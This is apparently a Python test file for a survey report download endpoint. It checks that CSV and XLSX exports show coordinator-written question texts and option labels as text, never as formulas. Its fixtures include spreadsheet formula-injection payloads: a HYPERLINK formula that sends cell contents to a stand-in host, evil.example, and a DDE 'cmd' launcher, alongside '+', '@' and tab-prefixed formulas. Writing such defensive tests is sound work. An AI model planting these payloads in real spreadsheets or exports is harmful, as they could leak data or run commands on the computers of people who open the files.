"""The survey report download is safe to open: question texts and option labels a coordinator
wrote (or taxonomy labels the template copied) are shown as text, never run as formulas, and
the percentage change, negative when a share fell, stays a number."""

from __future__ import annotations

from tests import factories
from tests.monitoring.test_export_injection import safe_csv, safe_xlsx, same_file_name

URL = "/api/v1/surveys"
TEXT = '=HYPERLINK("http://evil.example/?leak="&A2,"您使用哪些平台？")'
LABELS = ["+亚马逊", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "\t=1+1 速卖通", "希音 SHEIN"]
MARKETING = "＝营销"  # a taxonomy label renamed by a coordinator, copied by the template


def _survey(coord, year: int) -> int:
    own = {
        "code": "platforms",
        "text": TEXT,
        "kind": "single",
        "options": [{"code": f"p{k}", "label": label} for k, label in enumerate(LABELS)],
    }
    body = {
        "title": "=1+1 人才需求调查",
        "year": year,
        "template": "talent-demand",
        "distributed": 10,
        "questions": [own],
    }
    resp = coord.post(URL, json=body)
    assert resp.status_code == 201, resp.get_json()
    survey = resp.get_json()["id"]
    assert coord.post(f"{URL}/{survey}/open", json={}).status_code == 200
    return survey


def test_the_report_download_shows_hostile_text_as_text(coord, as_user):
    resp = coord.patch(
        "/api/v1/taxonomy/job-categories/marketing",
        json={"name_zh": MARKETING, "name_en": "Marketing"},
    )
    assert resp.status_code == 200, resp.get_json()
    enterprises = [factories.OrganizationFactory() for _ in range(2)]
    staff = [as_user(factories.member(e, "staff")) for e in enterprises]

    def answer(k, survey, option):
        body = {"enterprise_id": enterprises[k].id, "answers": {"platforms": option}}
        assert staff[k].post(f"{URL}/{survey}/responses", json=body).status_code == 201

    last, this = _survey(coord, 2025), _survey(coord, 2026)
    answer(0, last, "p0")
    answer(0, this, "p0")
    answer(1, this, "p4")  # p0 falls from 100% to 50%
    query = f"{URL}/{this}/report?compare_to={last}&format="
    csv, xlsx = coord.get(query + "csv"), coord.get(query + "xlsx")
    same_file_name(csv, f"survey-2026-{this}.csv")
    same_file_name(xlsx, f"survey-2026-{this}.xlsx")
    hostile = [TEXT, *LABELS[:4], f"{MARKETING} / Marketing"]
    rows = safe_csv(csv, hostile)
    cells = safe_xlsx(xlsx, hostile)
    first = next(r for r in rows if r[:3] == ["platforms", "'" + TEXT, "p0"])
    assert first[3:] == ["'+亚马逊", "1", "50.0", "1", "100.0", "-50.0", "False"]
    first = next(r for r in cells if r[:3] == ["platforms", TEXT, "p0"])
    assert first[3:] == ["+亚马逊", 1, 50, 1, 100, -50, False]
    chinese = next(r for r in cells if r[:3] == ["platforms", TEXT, "p4"])
    assert chinese[3] == "希音 SHEIN"  # plain text round-trips as it was written
    plain = next(r for r in rows if r[2] == "p4")
    assert plain[:4] == ["platforms", "'" + TEXT, "p4", "希音 SHEIN"]
